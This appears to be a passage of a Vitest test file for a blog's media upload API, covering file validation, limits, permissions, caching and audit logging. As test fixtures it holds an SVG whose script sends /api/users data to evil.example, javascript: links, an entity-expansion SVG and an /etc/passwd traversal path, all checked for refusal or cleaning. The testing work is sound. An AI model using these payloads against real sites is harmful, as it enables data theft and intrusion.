import sharp from 'sharp';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { mediaLimits } from '../services/media/formats.ts';
import { expectApiError } from '../testing/restAssertions.ts';
import { countingApp, createTestApp, type RestResult, type TestApp } from '../testing/testApp.ts';

// The media library through the real app (/api/media, /graphql multipart, /media/ files): uploads
// of each kind and of lies, limits, hostile SVG, who may do what, images in use, alt text before
// publishing, what the files are served with, and pages showing stored images (<picture>, Post.cover)
// at a bounded cost. Every image is drawn here with sharp.

let app: TestApp;
let admin: string;
let editor: string;
let otherEditor: string;
let adminId: number;
let editorId: number;

beforeAll(async () => {
  app = createTestApp();
  const a = await app.createStaff({ username: 'layla', role: 'ADMIN' });
  const e = await app.createStaff({ username: 'omar', role: 'EDITOR' });
  const o = await app.createStaff({ username: 'sara', role: 'EDITOR' });
  adminId = a.id;
  editorId = e.id;
  admin = await app.signIn(a.username, a.password);
  editor = await app.signIn(e.username, e.password);
  otherEditor = await app.signIn(o.username, o.password);
});
afterAll(() => app.cleanup());

let drawn = 0;

/** A small photo-like JPEG, different each call (the library keeps one media per file). */
async function photo({ width = 400, height = 300, format = 'jpeg' as 'jpeg' | 'png' } = {}): Promise<Buffer> {
  drawn++;
  const svg = `<svg xmlns="http://www.w3.org/2000/svg" width="${width}" height="${height}">
    <rect width="${width}" height="${height}" fill="rgb(${(drawn * 37) % 256},${(drawn * 91) % 256},160)"/>
    <circle cx="${width / 2}" cy="${height / 2}" r="${Math.min(width, height) / 3}" fill="#f2c14e"/></svg>`;
  const image = sharp(Buffer.from(svg));
  return format === 'png' ? image.png().toBuffer() : image.jpeg({ quality: 85 }).toBuffer();
}

function form(file: Blob | string | null, name = 'photo.jpg', fields: Record<string, string> = {}): FormData {
  const body = new FormData();
  if (file instanceof Blob) body.set('file', file, name);
  else if (typeof file === 'string') body.set('file', file);
  for (const [key, value] of Object.entries(fields)) body.set(key, value);
  return body;
}

const blob = (bytes: Uint8Array, type = 'image/jpeg') => new Blob([new Uint8Array(bytes)], { type });

function upload(
  bytes: Uint8Array,
  options: { name?: string; type?: string; token?: string; altEn?: string; altAr?: string; headers?: Record<string, string> } = {},
): Promise<RestResult> {
  const { name = 'photo.jpg', type = 'image/jpeg', token = editor, altEn, altAr, headers } = options;
  const fields = Object.fromEntries(Object.entries({ altEn, altAr }).filter(([, value]) => value !== undefined)) as Record<string, string>;
  return app.call('/api/media', { method: 'POST', body: form(blob(bytes, type), name, fields), token, headers });
}

/** An uploaded image's REST body (201 expected). */
async function uploaded(bytes: Uint8Array, options: Parameters<typeof upload>[1] = {}) {
  const result = await upload(bytes, options);
  expect(result.status, JSON.stringify(result.body)).toBe(201);
  return result.body.data;
}

/** The GraphQL multipart request spec: `operations`, `map`, then the file part. */
function graphqlUpload(bytes: Uint8Array, options: { token?: string; name?: string; headers?: Record<string, string> } = {}) {
  const body = new FormData();
  body.set(
    'operations',
    JSON.stringify({
      query:
        'mutation Upload($input: UploadMediaInput!) { uploadMedia(input: $input) { media { id databaseId name format width height altEn image { src } } } }',
      variables: { input: { file: null, altEn: 'A harbour at dusk', altAr: 'ميناء عند الغروب' } },
    }),
  );
  body.set('map', JSON.stringify({ 0: ['variables.input.file'] }));
  body.set('0', blob(bytes), options.name ?? 'harbour.jpg');
  return app.request('/graphql', { method: 'POST', body, token: options.token ?? editor, headers: options.headers });
}

/**
 * A multipart body written byte by byte: FormData cannot put bytes that are not UTF-8 in a text
 * part. Parts with a file name are files.
 */
function rawMultipart(parts: { name: string; value: Uint8Array | string; filename?: Uint8Array | string }[]): {
  body: Uint8Array<ArrayBuffer>;
  headers: Record<string, string>;
} {
  const boundary = '----sovra-test-boundary-0123456789';
  const chunks = parts.flatMap(({ name, value, filename }) => [
    Buffer.from(`--${boundary}\r\nContent-Disposition: form-data; name="${name}"`),
    ...(filename ? [Buffer.from('; filename="'), Buffer.from(filename), Buffer.from('"\r\nContent-Type: application/octet-stream')] : []),
    Buffer.from('\r\n\r\n'),
    typeof value === 'string' ? Buffer.from(value) : value,
    Buffer.from('\r\n'),
  ]);
  return {
    body: new Uint8Array(Buffer.concat([...chunks, Buffer.from(`--${boundary}--\r\n`)])),
    headers: { 'content-type': `multipart/form-data; boundary=${boundary}` },
  };
}

/** Text with the byte 0xFF in it: never UTF-8 (decoded loosely, it would become U+FFFD). */
const withByteFF = (before: string, after = '') => new Uint8Array(Buffer.concat([Buffer.from(before), Buffer.from([0xff]), Buffer.from(after)]));

async function createPost(fields: { coverImage?: string | null; body?: string; bodyAr?: string; status?: string }, token = editor) {
  const result = await app.call('/api/blogs', {
    method: 'POST',
    token,
    json: {
      status: fields.status ?? 'draft',
      tags: [],
      coverImage: fields.coverImage ?? null,
      translations: {
        en: { title: `Post ${Math.random().toString(36).slice(2)}`, excerpt: 'An excerpt', body: fields.body ?? 'Some words.' },
        ar: { title: 'مقالة', excerpt: 'مقتطف', body: fields.bodyAr ?? 'كلمات.' },
      },
    },
  });
  return result;
}

async function updatePost(id: number, version: number, fields: Record<string, unknown>, token = editor) {
  const current = (await app.call(`/api/blogs/admin?limit=100`, { token: admin })).body.data.blogs.find((post: { id: number }) => post.id === id);
  expect(current).toBeDefined();
  return app.call(`/api/blogs/${id}`, {
    method: 'PUT',
    token,
    json: {
      version,
      status: 'draft',
      tags: [],
      coverImage: null,
      translations: { en: { title: current.title, excerpt: 'An excerpt', body: 'Some words.' }, ar: { title: 'مقالة', excerpt: 'مقتطف', body: 'كلمات.' } },
      ...fields,
    },
  });
}

describe('POST /api/media', () => {
  it('takes a multipart upload and answers 201 with the image, its sources and its uploader', async () => {
    const bytes = await photo();
    const result = await upload(bytes, { name: 'harbour at dusk.jpg', altEn: '  A harbour  at dusk ', altAr: 'ميناء عند الغروب' });
    expect(result.status).toBe(201);
    expect(result.headers.get('cache-control')).toBe('no-store');
    const media = result.body.data;
    expect(media).toMatchObject({
      id: expect.any(Number),
      name: 'harbour at dusk.jpg',
      format: 'jpeg',
      width: 400,
      height: 300,
      bytes: bytes.byteLength,
      altEn: 'A harbour at dusk',
      altAr: 'ميناء عند الغروب',
      useCount: 0,
      usedBy: [],
      uploadedBy: { databaseId: editorId, displayName: 'omar' },
    });
    expect(Object.keys(media).sort()).toEqual([
      'altAr',
      'altEn',
      'bytes',
      'createdAt',
      'format',
      'height',
      'id',
      'image',
      'name',
      'uploadedBy',
      'useCount',
      'usedBy',
      'width',
    ]);
    expect(media.image.src).toMatch(/^\/media\/[0-9a-f]{32}\.jpg$/);
    expect(media.image.srcset).toMatch(/^\/media\/[0-9a-f]{32}\.jpg 320w, \/media\/[0-9a-f]{32}\.jpg 400w$/);
    expect(media.image.sources.map((source: { type: string }) => source.type)).toEqual(['image/avif', 'image/webp']);
    expect(media.image.social).toMatchObject({ url: expect.stringMatching(/^\/media\/[0-9a-f]{32}\.jpg$/), width: 1200, height: 630 });
    expect(media.image.placeholder).toMatch(/^data:image\/webp;base64,/);
    // The same through GET /api/media/:id.
    const read = await app.call(`/api/media/${media.id}`, { token: otherEditor });
    expect(read.status).toBe(200);
    expect(read.body.data).toEqual(media);
  });

  it('takes an upload through /graphql as the GraphQL multipart request spec sends it', async () => {
    const response = await graphqlUpload(await photo({ width: 500, height: 200 }));
    const body = await response.json();
    expect(response.status).toBe(200);
    expect(body.errors).toBeUndefined();
    expect(body.data.uploadMedia.media).toMatchObject({ name: 'harbour.jpg', format: 'jpeg', width: 500, height: 200, altEn: 'A harbour at dusk' });
    const stored = await app.db.media.findUniqueOrThrow({ where: { id: body.data.uploadMedia.media.databaseId }, include: { variants: true } });
    expect(stored.altAr).toBe('ميناء عند الغروب');
    expect(stored.variants.length).toBe(3 * 2 + 1);
    // Anonymous: refused like any write.
    const anonymous = await (await graphqlUpload(await photo(), { token: '' })).json();
    expect(anonymous.errors[0].extensions.code).toBe('UNAUTHENTICATED');
  });

  it('keeps one image of one file: the same bytes again answer the same image', async () => {
    const bytes = await photo();
    const first = await uploaded(bytes, { name: 'one.jpg' });
    const before = await app.db.media.count();
    const again = await uploaded(bytes, { name: 'two.jpg', token: otherEditor });
    expect(again.id).toBe(first.id);
    expect(again.name).toBe('one.jpg');
    expect(await app.db.media.count()).toBe(before);
    // And through /graphql.
    const graph = await (await graphqlUpload(bytes)).json();
    expect(graph.data.uploadMedia.media.databaseId).toBe(first.id);
  });

  it('lets the same file again fill the alt texts the image lacks, never replace them', async () => {
    const bytes = await photo({ width: 333, height: 111 });
    const first = await uploaded(bytes, { altEn: 'A quay' });
    const again = await uploaded(bytes, { altEn: 'Something else', altAr: 'رصيف' });
    expect(again).toMatchObject({ id: first.id, altEn: 'A quay', altAr: 'رصيف' });
    const audit = await app.db.auditEvent.findFirst({ where: { action: 'media.updated', target: `media:${first.id}` } });
    expect(JSON.parse(audit!.detail)).toMatchObject({ changed: ['altAr'] });
  });

  it('takes the same new file sent twice at once as one image', async () => {
    const bytes = await photo();
    const before = await app.db.media.count();
    const [first, second] = await Promise.all([upload(bytes), upload(bytes, { token: otherEditor })]);
    expect([first.status, second.status]).toEqual([201, 201]);
    expect(second.body.data.id).toBe(first.body.data.id);
    expect(await app.db.media.count()).toBe(before + 1);
  });

  it('makes variants of two images at a time with six waiting; the rest are told to try again (503, Retry-After)', async () => {
    const files = await Promise.all(Array.from({ length: 10 }, () => photo({ width: 800, height: 600 })));
    const results = await Promise.all(files.map((bytes) => upload(bytes)));
    expect(results.map((result) => result.status).sort()).toEqual([...Array(8).fill(201), 503, 503]);
    for (const refused of results.filter((result) => result.status === 503)) {
      expectApiError(refused, 503, 'SERVICE_UNAVAILABLE');
      expect(refused.headers.get('retry-after')).toBe('5');
    }
    // Once the queue has drained, the same files go in.
    for (const [i, result] of results.entries()) if (result.status === 503) expect((await upload(files[i])).status).toBe(201);
  }, 30_000);

  it('reads each accepted type by its content: PNG, WebP, AVIF, GIF and SVG too', async () => {
    const base = () => sharp({ create: { width: 120, height: 90, channels: 3, background: '#1d6fa5' } });
    const cases: [string, Buffer, string][] = [
      ['png', await base().png().toBuffer(), 'image/png'],
      ['webp', await base().webp().toBuffer(), 'image/webp'],
      ['avif', await base().avif({ effort: 0 }).toBuffer(), 'image/avif'],
      ['gif', await base().gif().toBuffer(), 'image/gif'],
      [
        'svg',
        Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" width="120" height="90"><rect width="120" height="90" fill="#1d6fa5"/></svg>'),
        'image/svg+xml',
      ],
    ];
    for (const [format, bytes, type] of cases) {
      const media = await uploaded(bytes, { name: `image.${format}`, type });
      expect({ format: media.format, width: media.width, height: media.height }).toEqual({ format, width: 120, height: 90 });
      const file = await app.request(media.image.src);
      expect(file.status).toBe(200);
      expect(file.headers.get('content-type')).toBe(format === 'svg' ? 'image/svg+xml' : 'image/jpeg');
    }
  });

  it('believes neither the name nor the declared type: the content decides', async () => {
    // JPEG bytes named and declared as PNG: stored as what they are.
    const lying = await uploaded(await photo(), { name: 'holiday.png', type: 'image/png' });
    expect(lying).toMatchObject({ name: 'holiday.png', format: 'jpeg' });
    const refusals: [string, Uint8Array, string][] = [
      ['page.jpg', new TextEncoder().encode('<!doctype html><html><script>alert(1)</script></html>'), 'unsupported_type'],
      ['notes.jpg', new TextEncoder().encode('plain words, not a picture'), 'unsupported_type'],
      ['invoice.jpg', new TextEncoder().encode('%PDF-1.7\n1 0 obj << >> endobj\n%%EOF'), 'unsupported_type'],
      ['broken.png', Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), Buffer.from('garbage that is no PNG')]), 'unreadable'],
      ['empty.jpg', new Uint8Array(0), 'empty'],
    ];
    const before = await app.db.media.count();
    for (const [name, bytes, reason] of refusals) {
      const result = await upload(bytes, { name });
      expectApiError(result, 400, 'BAD_USER_INPUT');
      expect({ name, details: result.body.details }).toEqual({ name, details: { file: reason } });
    }
    expect(await app.db.media.count()).toBe(before);
  });

  it('refuses an image of more than 40 megapixels, however small the file (400 too_many_pixels)', async () => {
    const huge = await sharp({ create: { width: 8000, height: 6000, channels: 3, background: '#336699' } })
      .png({ compressionLevel: 9 })
      .toBuffer();
    const result = await upload(huge, { name: 'poster.png', type: 'image/png' });
    expectApiError(result, 400, 'BAD_USER_INPUT');
    expect(result.body.details).toEqual({ file: 'too_many_pixels' });
  });

  it('refuses an image too tall for its copies (a 400x70,000 PNG) with 400 too_tall naming the limit, at both doors alike', async () => {
    const screenshot = await sharp({ create: { width: 400, height: 70_000, channels: 3, background: '#336699' } })
      .png()
      .toBuffer();
    const before = await app.db.media.count();
    const rest = await upload(screenshot, { name: 'screenshot.png', type: 'image/png' });
    expectApiError(rest, 400, 'BAD_USER_INPUT');
    expect(rest.body.details).toEqual({ file: 'too_tall' });
    expect(rest.body.message).toContain(`${mediaLimits.side.toLocaleString('en')} pixels`);
    const graph = await (await graphqlUpload(screenshot)).json();
    expect(graph.errors[0]).toMatchObject({ message: rest.body.message, extensions: { code: 'BAD_USER_INPUT', details: { file: 'too_tall' } } });
    expect(await app.db.media.count()).toBe(before);
  });

  it(`refuses a file over ${mediaLimits.bytes / 1024 / 1024} MiB with 413, whatever the Content-Length says`, async () => {
    const tooLarge = new Uint8Array(mediaLimits.bytes + 1);
    tooLarge.set([0xff, 0xd8, 0xff]);
    const result = await upload(tooLarge, { name: 'huge.jpg' });
    expectApiError(result, 413, 'PAYLOAD_TOO_LARGE');
    expect(result.body.details).toEqual({ file: 'too_large' });
    // Declared too large: refused before a byte is read.
    const declared = await app.call('/api/media', {
      method: 'POST',
      token: editor,
      headers: { 'content-type': 'multipart/form-data; boundary=x', 'content-length': String(mediaLimits.bytes + 1024 * 1024) },
      body: 'x',
    });
    expectApiError(declared, 413, 'PAYLOAD_TOO_LARGE');
    expect(declared.body.details).toEqual({ file: 'too_large' });
    // A body past the limit that claims to be small is counted as it is read.
    const body = form(blob(new Uint8Array(mediaLimits.bytes + 128 * 1024)), 'liar.jpg');
    const encoded = new Request('http://localhost/', { method: 'POST', body });
    const bytes = new Uint8Array(await encoded.arrayBuffer());
    const liar = await app.call('/api/media', {
      method: 'POST',
      token: editor,
      headers: { 'content-type': encoded.headers.get('content-type')!, 'content-length': '100' },
      body: bytes,
    });
    expectApiError(liar, 413, 'PAYLOAD_TOO_LARGE');
    // Through /graphql: the same limit, in GraphQL's shape.
    const graph = await (await graphqlUpload(tooLarge)).json();
    expect(graph.errors[0].extensions).toMatchObject({ code: 'PAYLOAD_TOO_LARGE', details: { file: 'too_large' } });
    expect(graph.data?.uploadMedia ?? null).toBeNull();
  });

  it('answers a body that is not multipart with 415, and a missing file with 400 file: required', async () => {
    expectApiError(await app.call('/api/media', { method: 'POST', token: editor, json: { file: 'aGVsbG8=' } }), 415, 'UNSUPPORTED_MEDIA_TYPE');
    const missing = await app.call('/api/media', { method: 'POST', token: editor, body: form(null, undefined, { altEn: 'nothing' }) });
    expectApiError(missing, 400, 'BAD_USER_INPUT');
    expect(missing.body.details).toEqual({ file: 'required' });
    // A text part named file is no file.
    const text = await app.call('/api/media', { method: 'POST', token: editor, body: form('not a file') });
    expectApiError(text, 400, 'BAD_USER_INPUT');
    expect(Object.keys(text.body.details)).toEqual(['file']);
    // Alt texts are checked too.
    const longAlt = await upload(await photo(), { altEn: 'x'.repeat(301) });
    expectApiError(longAlt, 400, 'BAD_USER_INPUT');
    expect(longAlt.body.details).toEqual({ altEn: 'too_long' });
  });

  it('refuses a text part that is not UTF-8 with 400 naming it, as a JSON body is, at both doors, nothing stored', async () => {
    const before = await app.db.media.count();
    const file = { name: 'file', value: await photo(), filename: 'quay.jpg' };
    const rest = await app.call('/api/media', { method: 'POST', token: editor, ...rawMultipart([file, { name: 'altEn', value: withByteFF('A quay ') }]) });
    expectApiError(rest, 400, 'BAD_USER_INPUT');
    expect(rest.body).toMatchObject({ message: 'The "altEn" part is not valid UTF-8 text', details: { altEn: 'invalid' } });

    // /graphql: the operation and the map are text parts too.
    const query = 'mutation Upload($input: UploadMediaInput!) { uploadMedia(input: $input) { media { id } } }';
    const operations = (altEn: string) => `{"query":"${query}","variables":{"input":{"file":null,"altEn":"${altEn}"}}}`;
    const map = '{"0":["variables.input.file"]}';
    const graph = async (parts: Parameters<typeof rawMultipart>[0]) => {
      const response = await app.request('/graphql', { method: 'POST', token: editor, ...rawMultipart(parts) });
      return { status: response.status, body: await response.json() };
    };
    const badOperations = await graph([
      { name: 'operations', value: withByteFF(operations('A quay '), '') },
      { name: 'map', value: map },
      { ...file, name: '0' },
    ]);
    expect(badOperations.status).toBe(400);
    expect(badOperations.body.errors[0]).toMatchObject({
      message: 'The "operations" part is not valid UTF-8 text',
      extensions: { code: 'BAD_USER_INPUT', details: { operations: 'invalid' } },
    });
    const badMap = await graph([
      { name: 'operations', value: operations('A quay') },
      { name: 'map', value: withByteFF(map) },
      { ...file, name: '0' },
    ]);
    expect(badMap.status).toBe(400);
    expect(badMap.body.errors[0].extensions).toMatchObject({ code: 'BAD_USER_INPUT', details: { map: 'invalid' } });
    expect(await app.db.media.count()).toBe(before);

    // U+FFFD itself, sent as UTF-8, is text like any other; so is a file of any bytes.
    const replacement = await app.call('/api/media', { method: 'POST', token: editor, ...rawMultipart([file, { name: 'altEn', value: 'A quay \uFFFD' }]) });
    expect(replacement.status).toBe(201);
    expect(replacement.body.data.altEn).toBe('A quay \uFFFD');
    const viaGraph = await graph([
      { name: 'operations', value: operations('A quay \uFFFD') },
      { name: 'map', value: map },
      { name: '0', value: await photo(), filename: 'x.jpg' },
    ]);
    expect(viaGraph.body.errors).toBeUndefined();
  });

  it('refuses a file whose name is not UTF-8, and names the part of a text holding a NUL, nothing stored', async () => {
    const before = await app.db.media.count();
    const badName = await app.call('/api/media', {
      method: 'POST',
      token: editor,
      ...rawMultipart([{ name: 'file', value: await photo(), filename: withByteFF('quay', '.jpg') }]),
    });
    expectApiError(badName, 400, 'BAD_USER_INPUT');
    expect(badName.body.details).toEqual({ file: 'invalid' });
    const file = { name: 'file', value: await photo(), filename: 'quay.jpg' };
    const nul = await app.call('/api/media', { method: 'POST', token: editor, ...rawMultipart([file, { name: 'altEn', value: 'A\u0000quay' }]) });
    expectApiError(nul, 400, 'BAD_USER_INPUT');
    expect(nul.body.details).toEqual({ altEn: 'invalid' });
    expect(await app.db.media.count()).toBe(before);
    const arabicName = await app.call('/api/media', { method: 'POST', token: editor, ...rawMultipart([{ ...file, filename: 'ميناء دبي.jpg' }]) });
    expect(arabicName.status).toBe(201);
    expect(arabicName.body.data.name).toBe('ميناء دبي.jpg');
  });

  it('refuses an SVG of more elements than a drawing needs as too complex, not as unsafe', async () => {
    const many = `<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">${'<rect width="1" height="1"/>'.repeat(50_001)}</svg>`;
    const refused = await app.call('/api/media', { method: 'POST', token: editor, ...rawMultipart([{ name: 'file', value: many, filename: 'many.svg' }]) });
    expectApiError(refused, 400, 'BAD_USER_INPUT');
    expect(refused.body.details).toEqual({ file: 'too_complex' });
  });

  it('refuses multipart writes sent from another site (403), at both doors', async () => {
    const origin = { origin: 'https://evil.example' };
    const before = await app.db.media.count();
    expectApiError(await upload(await photo(), { headers: origin }), 403, 'FORBIDDEN');
    const graph = await graphqlUpload(await photo(), { headers: origin });
    expect(graph.status).toBe(403);
    expect(await app.db.media.count()).toBe(before);
    // The site itself may.
    expect((await upload(await photo(), { headers: { origin: 'http://localhost' } })).status).toBe(201);
  });
});

describe('a hostile SVG', () => {
  it('is stored cleaned and served as an image that can run nothing', async () => {
    const hostile = `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="100" height="100" onload="alert(1)">
      <script>fetch('/api/users').then(r => r.text()).then(t => navigator.sendBeacon('https://evil.example', t))</script>
      <foreignObject width="100" height="100"><div xmlns="http://www.w3.org/1999/xhtml">hi</div></foreignObject>
      <a xlink:href="javascript:alert(2)"><rect width="40" height="40" fill="red"/></a>
      <use href="https://evil.example/sprite.svg#x"/>
      <image href="https://evil.example/pixel.png" width="1" height="1"/>
      <circle cx="50" cy="50" r="30" fill="#1d6fa5" onmouseover="alert(3)"/>
    </svg>`;
    const media = await uploaded(new TextEncoder().encode(hostile), { name: 'logo.svg', type: 'image/svg+xml' });
    expect(media.format).toBe('svg');
    expect(media.image.src).toMatch(/^\/media\/[0-9a-f]{32}\.svg$/);
    expect(media.image).toMatchObject({ srcset: '', sources: [] });
    const response = await app.request(media.image.src);
    const svg = await response.text();
    expect(response.status).toBe(200);
    expect(svg).not.toMatch(/<script|foreignObject|\son[a-z]+\s*=|javascript:|evil\.example|<div/i);
    expect(svg).toContain('<circle');
    expect(response.headers.get('content-type')).toBe('image/svg+xml');
    expect(response.headers.get('x-content-type-options')).toBe('nosniff');
    const policy = response.headers.get('content-security-policy') ?? '';
    expect(policy).toContain("default-src 'none'");
    expect(policy.split(';').map((part) => part.trim())).toContain('sandbox');
    expect(policy).not.toMatch(/script-src/);
  });

  it('is refused with a document type or entity declaration (400 unsafe_svg)', async () => {
    const entities =
      '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;&a;">]><svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><text>&b;</text></svg>';
    const external = '<!DOCTYPE svg SYSTEM "https://evil.example/x.dtd"><svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"/>';
    for (const svg of [entities, external]) {
      const result = await upload(new TextEncoder().encode(svg), { name: 'bomb.svg', type: 'image/svg+xml' });
      expectApiError(result, 400, 'BAD_USER_INPUT');
      expect(result.body.details).toEqual({ file: 'unsafe_svg' });
    }
  });
});

describe('/media/ files', () => {
  let media: { image: { src: string; sources: { srcset: string }[]; social: { url: string } } };
  beforeAll(async () => {
    media = await uploaded(await photo());
  });

  it('are served immutable, with their hash as ETag, and no EXIF in any', async () => {
    const addresses = [
      media.image.src,
      media.image.social.url,
      ...media.image.sources.flatMap((source) => source.srcset.split(', ').map((entry) => entry.split(' ')[0])),
    ];
    expect(addresses.length).toBe(2 + 2 * 2);
    for (const address of addresses) {
      const response = await app.request(address);
      expect(response.status).toBe(200);
      const hash = /\/media\/([0-9a-f]{32})\./.exec(address)![1];
      expect(response.headers.get('cache-control')).toBe('public, max-age=31536000, immutable');
      expect(response.headers.get('etag')).toBe(`"${hash}"`);
      expect(response.headers.get('x-content-type-options')).toBe('nosniff');
      expect(response.headers.get('content-security-policy')).toContain('sandbox');
      const type = { avif: 'image/avif', webp: 'image/webp', jpg: 'image/jpeg' }[address.split('.').pop()!];
      expect(response.headers.get('content-type')).toBe(type);
      const bytes = new Uint8Array(await response.arrayBuffer());
      expect(Number(response.headers.get('content-length'))).toBe(bytes.byteLength);
      const metadata = await sharp(bytes).metadata();
      expect({ exif: metadata.exif, xmp: metadata.xmp, iptc: metadata.iptc }).toEqual({ exif: undefined, xmp: undefined, iptc: undefined });
    }
  });

  it('answer If-None-Match with 304 and no body, HEAD without a body, other methods 405, unknown files 404', async () => {
    const first = await app.request(media.image.src);
    const etag = first.headers.get('etag')!;
    await first.arrayBuffer();
    for (const header of [etag, `W/${etag}`, `"0000", ${etag}`, '*']) {
      const again = await app.request(media.image.src, { headers: { 'if-none-match': header } });
      expect(again.status).toBe(304);
      expect(await again.text()).toBe('');
      expect(again.headers.get('etag')).toBe(etag);
      expect(again.headers.get('cache-control')).toBe('public, max-age=31536000, immutable');
    }
    expect((await app.request(media.image.src, { headers: { 'if-none-match': '"something-else"' } })).status).toBe(200);
    const head = await app.request(media.image.src, { method: 'HEAD' });
    expect(head.status).toBe(200);
    expect(head.headers.get('content-type')).toBe('image/jpeg');
    expect(await head.text()).toBe('');
    const post = await app.request(media.image.src, { method: 'POST', body: 'x' });
    expect(post.status).toBe(405);
    expect(post.headers.get('allow')).toBe('GET, HEAD');
    const hash = /([0-9a-f]{32})/.exec(media.image.src)![1];
    for (const address of [
      `/media/${'0'.repeat(32)}.jpg`,
      `/media/${hash}.exe`,
      `/media/${hash}.svg`,
      `/media/${hash}`,
      '/media/',
      '/media/..%2F..%2Fetc%2Fpasswd',
      `/media/${hash.toUpperCase()}.jpg`,
    ]) {
      expect({ address, status: (await app.request(address)).status }).toEqual({ address, status: 404 });
    }
  });

  // Issue 21: the files kept in memory were the process's, shared by every app in it.
  it('are kept in memory by each app: another app over the same database reads a file once, then from its own memory', async () => {
    expect((await app.request(media.image.src)).status).toBe(200);
    const { app: other, statements, close } = await countingApp(app);
    try {
      const read = async (address: string) => {
        const before = statements();
        const response = await other.fetch(new Request(`http://localhost${address}`), { ip: '127.0.0.1' });
        await response.arrayBuffer();
        return { status: response.status, statements: statements() - before };
      };
      await read(`/media/${'0'.repeat(32)}.jpg`); // reads the settings the answers' headers need
      expect((await read(media.image.src)).statements).toBeGreaterThan(0);
      expect(await read(media.image.src)).toEqual({ status: 200, statements: 0 });
    } finally {
      await close();
    }
  });

  it('are dropped from memory when their image is deleted', async () => {
    const gone = await uploaded(await photo());
    expect((await app.request(gone.image.src)).status).toBe(200);
    expect((await app.call(`/api/media/${gone.id}`, { method: 'DELETE', token: admin })).status).toBe(200);
    expect((await app.request(gone.image.src)).status).toBe(404);
  });
});

describe('who may do what', () => {
  it('refuses visitors and bad tokens (401) everywhere', async () => {
    const mine = await uploaded(await photo());
    for (const token of ['', 'not-a-real-token']) {
      expectApiError(await upload(await photo(), { token }), 401, 'UNAUTHENTICATED');
      expectApiError(await app.call('/api/media', { token }), 401, 'UNAUTHENTICATED');
      expectApiError(await app.call(`/api/media/${mine.id}`, { token }), 401, 'UNAUTHENTICATED');
      expectApiError(await app.call(`/api/media/${mine.id}`, { method: 'PATCH', token, json: { altEn: 'x' } }), 401, 'UNAUTHENTICATED');
      expectApiError(await app.call(`/api/media/${mine.id}`, { method: 'DELETE', token }), 401, 'UNAUTHENTICATED');
    }
    const graph = await app.graphql('{ media(first: 5) { totalCount } }');
    expect(graph.errors?.[0].extensions?.code).toBe('UNAUTHENTICATED');
    expect(await app.db.media.findUnique({ where: { id: mine.id } })).not.toBeNull();
  });

  it('lets editors upload, list and describe any image, but delete only their own; admins delete any unused', async () => {
    const adminsImage = await uploaded(await photo(), { token: admin });
    const editorsImage = await uploaded(await photo(), { token: editor });
    const othersImage = await uploaded(await photo(), { token: otherEditor });
    expect((await app.call('/api/media', { token: editor })).status).toBe(200);
    const described = await app.call(`/api/media/${adminsImage.id}`, { method: 'PATCH', token: editor, json: { altEn: 'Described by an editor' } });
    expect(described.status).toBe(200);
    expect(described.body.data).toMatchObject({ id: adminsImage.id, altEn: 'Described by an editor', altAr: '' });

    expectApiError(await app.call(`/api/media/${adminsImage.id}`, { method: 'DELETE', token: editor }), 403, 'FORBIDDEN');
    expectApiError(await app.call(`/api/media/${othersImage.id}`, { method: 'DELETE', token: editor }), 403, 'FORBIDDEN');
    const own = await app.call(`/api/media/${editorsImage.id}`, { method: 'DELETE', token: editor });
    expect(own.status).toBe(200);
    expect(own.body.data).toEqual({ id: editorsImage.id, message: 'Image deleted' });
    expectApiError(await app.call(`/api/media/${editorsImage.id}`, { token: editor }), 404, 'NOT_FOUND');
    expectApiError(await app.call(`/api/media/${editorsImage.id}`, { method: 'DELETE', token: editor }), 404, 'NOT_FOUND');
    for (const id of [adminsImage.id, othersImage.id]) expect((await app.call(`/api/media/${id}`, { method: 'DELETE', token: admin })).status).toBe(200);
    // Its files are gone.
    expect((await app.request(editorsImage.image.src)).status).toBe(404);
    expectApiError(await app.call('/api/media/999999', { token: editor }), 404, 'NOT_FOUND');
    expectApiError(await app.call('/api/media/999999', { method: 'PATCH', token: editor, json: { altEn: 'x' } }), 404, 'NOT_FOUND');
  });

  it('writes every change to the audit log', async () => {
    const media = await uploaded(await photo(), { name: 'audited.jpg' });
    await app.call(`/api/media/${media.id}`, { method: 'PATCH', token: admin, json: { altAr: 'صورة' } });
    await app.call(`/api/media/${media.id}`, { method: 'DELETE', token: editor });
    const rows = await app.db.auditEvent.findMany({ where: { target: `media:${media.id}` }, orderBy: { id: 'asc' } });
    expect(rows.map((row) => [row.action, row.actorId])).toEqual([
      ['media.uploaded', editorId],
      ['media.updated', adminId],
      ['media.deleted', editorId],
    ]);
    expect(JSON.parse(rows[0].detail)).toMatchObject({ name: 'audited.jpg', format: 'jpeg', bytes: expect.any(Number) });
    expect(JSON.parse(rows[1].detail)).toMatchObject({ changed: ['altAr'] });
  });
});

describe('images in posts', () => {
  it('cannot be deleted while a post shows them, as cover or in a body (409); after, they can and their files go', async () => {
    const cover = await uploaded(await photo());
    const inBody = await uploaded(await photo());
    const post = await createPost({ coverImage: cover.image.src, body: `Before.\n\n![](${inBody.image.sources[0].srcset.split(' ')[0]})\n\nAfter.` });
    expect(post.status).toBe(201);
    for (const media of [cover, inBody]) {
      const refused = await app.call(`/api/media/${media.id}`, { method: 'DELETE', token: admin });
      expectApiError(refused, 409, 'CONFLICT');
      expect(refused.body.details).toEqual({ uses: 1 });
      const read = (await app.call(`/api/media/${media.id}`, { token: editor })).body.data;
      expect(read).toMatchObject({ useCount: 1, usedBy: [{ id: post.body.data.id, slug: post.body.data.slug, status: 'DRAFT' }] });
    }
    const saved = await updatePost(post.body.data.id, post.body.data.version, {});
    expect(saved.status).toBe(200);
    for (const media of [cover, inBody]) {
      expect((await app.call(`/api/media/${media.id}`, { method: 'DELETE', token: admin })).status).toBe(200);
      expect((await app.request(media.image.src)).status).toBe(404);
    }
  });

  it('need alt text in English and Arabic before a post showing them is published', async () => {
    const media = await uploaded(await photo(), { altEn: 'Only English' });
    const draft = await createPost({ body: `![](${media.image.src})` });
    expect(draft.status).toBe(201);
    const refused = await updatePost(draft.body.data.id, draft.body.data.version, {
      status: 'published',
